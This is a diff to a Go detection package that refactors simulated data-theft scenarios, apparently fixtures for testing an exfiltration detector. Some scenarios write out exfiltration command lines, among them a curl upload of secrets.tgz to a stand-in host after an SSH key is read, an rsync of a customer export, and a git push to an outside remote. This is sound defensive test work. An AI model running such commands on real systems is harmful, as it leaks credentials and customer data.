@@ -1,7 +1,6 @@
 package detect
 
 import (
-	"fmt"
 	"net/netip"
 	"time"
 )
@@ -137,9 +136,8 @@ var thefts = []stealing{
 	}},
 	{"in the log shipper, other files", true, func(f *fleet, at time.Time) *task {
 		m := f.pick("web")
-		to := f.of("logs")[int(m.addr.As4()[3])%2].addr
-		script := f.start(at, m.init, "/usr/bin/dash", "/bin/sh /usr/libexec/log-ship", unit("log-ship.service"), runs("/usr/libexec/log-ship"), as("logship", 997))
-		return f.copyOut(at.Add(time.Second), script, "/usr/bin/rsync", "rsync -az /srv/shop/export/ logs@"+to.String()+":/srv/logs/"+m.name+"/", to, 7e6, map[string]int64{"/srv/shop/export/customers.csv": 7e6})
+		to := f.store(m)
+		return f.copyOut(at.Add(time.Second), f.shipper(at, m), "/usr/bin/rsync", "rsync -az /srv/shop/export/ logs@"+to.String()+":/srv/logs/"+m.name+"/", to, 7e6, map[string]int64{"/srv/shop/export/customers.csv": 7e6})
 	}},
 	{"as ansible, but it fetches", true, func(f *fleet, at time.Time) *task {
 		m := f.pick("web")
@@ -148,7 +146,7 @@ var thefts = []stealing{
 	}},
 	{"in a pipeline, with its variables", true, func(f *fleet, at time.Time) *task {
 		m := f.pick("ci")
-		shell := f.start(at, m.service, "/usr/bin/bash", "bash --login", in(fmt.Sprintf("/var/lib/gitlab-runner/builds/%08x/0/shop/part-1", f.r.Uint32())), func(t *task) { t.env = []string{"CI=true", "GITLAB_CI=true"} })
+		shell, _ := f.job(at, m, 1, func(t *task) { t.env = []string{"CI=true", "GITLAB_CI=true"} })
 		t := f.start(at.Add(time.Minute), shell, "/usr/bin/curl", "curl -s -T secrets.tgz https://files.example/u")
 		f.reads(at.Add(time.Minute), t, "/var/lib/gitlab-runner/.ssh/id_ed25519", 400)
 		f.sends(at.Add(time.Minute), time.Second, t, f.outside(), 443, false, f.about(300_000, 0.5), 4000)
@@ -157,7 +155,7 @@ var thefts = []stealing{
 	}},
 	{"pushed to a new remote", true, func(f *fleet, at time.Time) *task {
 		m := f.pick("ci")
-		shell := f.start(at, m.service, "/usr/bin/bash", "bash --login", in(fmt.Sprintf("/var/lib/gitlab-runner/builds/%08x/0/shop/part-2", f.r.Uint32())))
+		shell, _ := f.job(at, m, 2)
 		push := f.start(at.Add(time.Second), shell, "/usr/bin/git", "git push https backup")
 		t := f.start(at.Add(time.Second+5*time.Millisecond), push, "/usr/bin/ssh", "ssh git@code.example git-receive-pack 'x/y.git'")
 		f.sends(at.Add(2*time.Second), 20*time.Second, t, f.outside(), 22, false, f.about(60e6, 0.5), 9000)
